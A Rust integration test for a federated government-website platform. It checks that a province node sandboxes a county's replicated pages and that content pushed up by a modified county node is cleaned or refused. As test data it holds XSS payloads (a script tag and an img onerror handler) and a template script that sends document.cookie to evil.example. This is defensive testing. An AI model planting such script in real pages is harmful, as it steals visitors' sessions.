//! A province serving a county's site: the county's pages are sandboxed there, and what a
//! modified county node signs and pushes up (a raw body, a template with script) is cleaned
//! or refused on arrival.

use govnode_federation::{Audience, Entry, EntryDraft, encode_payload};
use govnode_tests::tree::Member;
use govnode_tests::{StatusCode, TestTree};
use serde_json::json;

use super::{assert_policy, file_letter};

fn province_and_county() -> Vec<Member> {
    let m = |id, name, parent: Option<&'static str>| Member {
        id,
        name,
        parent,
        aerial: vec![],
    };
    vec![
        m("440000", "广东省", None),
        m("440106", "天河区", Some("440000")),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_county_cannot_script_the_province_s_pages() {
    let tree = TestTree::start(province_and_county()).await;
    let province = tree.node("440000");
    province.site("gd", "广东省人民政府").await;
    let r = province
        .call(
            govnode_tests::Method::PUT,
            "/api/admin/interaction/bodies/zwfw",
            Some(&province.admin),
            Some(json!({ "name": "广东省政务服务数据管理局" })),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let county = tree.node("440106");
    county.site("tianhe", "天河区人民政府").await;
    county.column("tianhe", "news", "工作动态", "news").await;
    let staff = county.staff("tianhe").await;
    let a = county
        .publish(
            "tianhe",
            &staff,
            json!({ "column": "news", "title": "天河区召开防汛工作会议", "body": "会议部署防汛工作。" }),
        )
        .await;
    let article = format!("/sites/tianhe/articles/{}", a["id"]);
    tree.wait_page("440000", &article).await;

    // 1. The county's pages at the province: the policy and the sandbox (no script, no
    //    same origin), every kind of page.
    for (path, status) in [
        ("/sites/tianhe/", StatusCode::OK),
        (article.as_str(), StatusCode::OK),
        ("/sites/tianhe/columns/news", StatusCode::OK),
        ("/sites/tianhe/search?q=防汛", StatusCode::OK),
        ("/sites/tianhe/letters", StatusCode::OK),
        ("/sites/tianhe/feed.rss", StatusCode::OK),
        ("/sites/tianhe/no-such-page", StatusCode::NOT_FOUND),
    ] {
        let r = province.get(path).await;
        assert_eq!(r.status, status, "{path}: {}", r.text);
        assert_eq!(r.header("x-govnode-replica"), Some("440106"), "{path}");
        let csp = assert_policy(&r, path);
        let sandbox = csp
            .split(';')
            .map(str::trim)
            .find(|d| d.starts_with("sandbox"))
            .unwrap_or_else(|| panic!("{path}: not sandboxed: {csp}"));
        assert!(sandbox.contains("allow-forms"), "{path}: {sandbox}");
        assert!(
            !sandbox.contains("allow-scripts") && !sandbox.contains("allow-same-origin"),
            "{path}: {sandbox}"
        );
    }
    // The province's own site, and the county's site at the county: not sandboxed.
    for (node, path) in [("440000", "/sites/gd/"), ("440106", "/sites/tianhe/")] {
        let r = tree.node(node).get(path).await;
        assert_eq!(r.status, StatusCode::OK, "{node}{path}");
        let csp = assert_policy(&r, path);
        assert!(!csp.contains("sandbox"), "{node}{path}: {csp}");
    }
    // The letters form on the replica still files, posted as a sandboxed page posts it
    // (`Origin: null`); its confirmation arrives (the receipt cookie is `SameSite=Lax`, which
    // a top-level GET from an opaque origin carries), and every answer is sandboxed too.
    for csp in <[String; 2]>::from(file_letter(province, "tianhe").await) {
        assert!(csp.contains("sandbox allow-forms"), "{csp}");
    }

    // 2. A modified county node signs, with its own certified key, an article whose body
    //    was never cleaned and a template override with script.
    let fed = &county.node.federation;
    let me = fed.me();
    let head = fed.log().version_vector().await.unwrap().get(me);
    let entries = fed.log().entries_after(me, 0, head, 100).await.unwrap();
    let last_hlc = entries.iter().map(|(e, _)| e.hlc).max().unwrap();
    let now = chrono::Utc::now().timestamp_millis();
    let mut doc = a["doc"].clone();
    doc["title"] = json!("天河区召开防汛工作会议（更新）");
    doc["body_html"] = json!(
        "<p>会议部署防汛工作。</p><script>alert('province')</script><img src=\"x\" onerror=\"alert(2)\">"
    );
    // The payloads as the content module encodes them (postcard encodes a tuple exactly
    // as the struct of the same fields in the same order).
    let article_record = (
        "tianhe".to_string(),
        a["id"].as_i64().unwrap(),
        "news".to_string(),
        a["revision"].as_i64().unwrap() + 1,
        doc["title"].as_str().unwrap().to_string(),
        "news".to_string(),
        String::new(),
        now,
        now,
        false,
        String::new(),
        None::<i64>,
        None::<i64>,
        doc.to_string(),
    );
    let template_record = (
        "tianhe".to_string(),
        "layout.html".to_string(),
        "<html><body><script>document.location='https://evil.example/?'+document.cookie</script>{% block content %}{% endblock %}</body></html>".to_string(),
        "天河区管理员".to_string(),
        now,
    );
    let sign = |seq: u64, kind: &str, object: String, payload: Vec<u8>| {
        Entry::sign(
            &county.node.key,
            me,
            seq,
            last_hlc + seq - head,
            EntryDraft {
                kind: kind.into(),
                object,
                audience: Audience::Public,
                payload,
            },
        )
    };
    let batch = vec![
        sign(
            head + 1,
            "content.article",
            format!("tianhe/{}", a["id"]),
            encode_payload(1, &article_record),
        ),
        sign(
            head + 2,
            "content.template",
            "tianhe/layout.html".into(),
            encode_payload(1, &template_record),
        ),
    ];
    let report = province
        .node
        .federation
        .ingest("test-modified-county", batch, fed.own_chain())
        .await
        .unwrap();
    assert!(report.rejected.is_empty(), "authentic entries: {report:?}");

    // The article applied, its body cleaned as local publication cleans it.
    tree.wait_for("the updated article at the province", || async {
        province.get(&article).await.text.contains("（更新）")
    })
    .await;
    let page = province.get(&article).await;
    assert!(page.text.contains("会议部署防汛工作。"), "{}", page.text);
    for bad in ["<script>alert", "onerror", "alert(2)"] {
        assert!(!page.text.contains(bad), "{bad} in {}", page.text);
    }
    // The template was refused (stored, never applied) and the refusal names it.
    let status = province.get("/api/federation/status").await.json();
    let recent = status["rejected"]["recent"].to_string();
    assert!(
        recent.contains("layout.html") && recent.contains("<script>"),
        "{recent}"
    );
    for path in ["/sites/tianhe/", article.as_str()] {
        let page = province.get(path).await;
        assert_eq!(page.status, StatusCode::OK, "{path}");
        assert!(
            !page.text.contains("evil.example") && !page.text.contains("<script"),
            "{path}: {}",
            page.text
        );
    }
    tree.shutdown().await;
}
